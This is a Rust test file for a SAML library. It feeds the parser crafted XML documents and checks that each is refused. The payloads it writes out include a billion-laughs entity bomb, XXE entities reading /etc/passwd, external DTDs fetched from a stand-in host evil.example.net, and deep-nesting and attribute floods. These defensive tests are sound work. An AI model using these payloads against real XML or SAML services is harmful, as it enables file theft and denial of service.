//! Documents that are refused before anything in them is looked at.

use saml::DocumentError;

use super::{Attack, Fate, refused};
use crate::support::{edit, good};

pub(super) fn attacks() -> Vec<Attack<Fate>> {
    let with_type = |subset: &str, name: &str| format!("<!DOCTYPE r {subset}>{}", edit(&good(), "jane@x", name));
    let laughs = r#"[<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;"><!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;">]"#;
    let external = r#"[<!ENTITY x SYSTEM "file:///etc/passwd">]"#;
    let parameter = r#"[<!ENTITY % x SYSTEM "https://evil.example.net/x.dtd"> %x;]"#;
    let quadratic = format!("[<!ENTITY a \"{}\">]", "a".repeat(5_000));
    let deep = |depth: usize| format!("{}x{}", "<a>".repeat(depth), "</a>".repeat(depth));
    let instruction = || DocumentError::ProcessingInstruction;
    let doctype = || DocumentError::DocumentType;
    let malformed = |what: &str| DocumentError::Malformed(format!("Well-formedness error at {what}"));
    let many: String = (0..1_100).map(|number| format!(" a{number:04}=''")).collect();
    vec![
        refused("document-type.xml", with_type("", "jane@x"), doctype()),
        refused("xxe-file.xml", with_type(external, "&x;"), doctype()),
        refused("xxe-by-a-parameter-entity.xml", with_type(parameter, "jane@x"), doctype()),
        refused(
            "xxe-by-an-external-document-type.xml",
            with_type("SYSTEM \"https://evil.example.net/x.dtd\"", "jane@x"),
            doctype(),
        ),
        refused("billion-laughs.xml", with_type(laughs, "&i;"), doctype()),
        refused("quadratic-blow-up.xml", with_type(&quadratic, &"&a;".repeat(2_000)), doctype()),
        refused(
            "undeclared-entity.xml",
            edit(&good(), "jane@x", "&x;"),
            malformed("1:1882: Unknown entity reference: &x;"),
        ),
        refused("processing-instruction.xml", edit(&good(), "<samlp:Status>", "<?evil?><samlp:Status>"), instruction()),
        refused("processing-instruction-in-name-id.xml", edit(&good(), "jane@x", "jane<?evil?>@x"), instruction()),
        refused("deep-nesting.xml", edit(&good(), "jane@example.edu", &deep(2_000)), DocumentError::TooDeep),
        refused(
            "a-thousand-attributes.xml",
            edit(&good(), "jane@example.edu", &format!("<a{many}/>")),
            DocumentError::TooManyAttributes,
        ),
        refused(
            "declared-as-utf-16.xml",
            format!("<?xml version=\"1.0\" encoding=\"utf-16\"?>{}", good()),
            DocumentError::NotUtf8,
        ),
        refused(
            "declared-as-utf-7.xml",
            format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?>{}", good()),
            DocumentError::NotUtf8,
        ),
        refused("two-roots.xml", good().repeat(2), malformed("1:3005: Only one root element is allowed")),
    ]
}
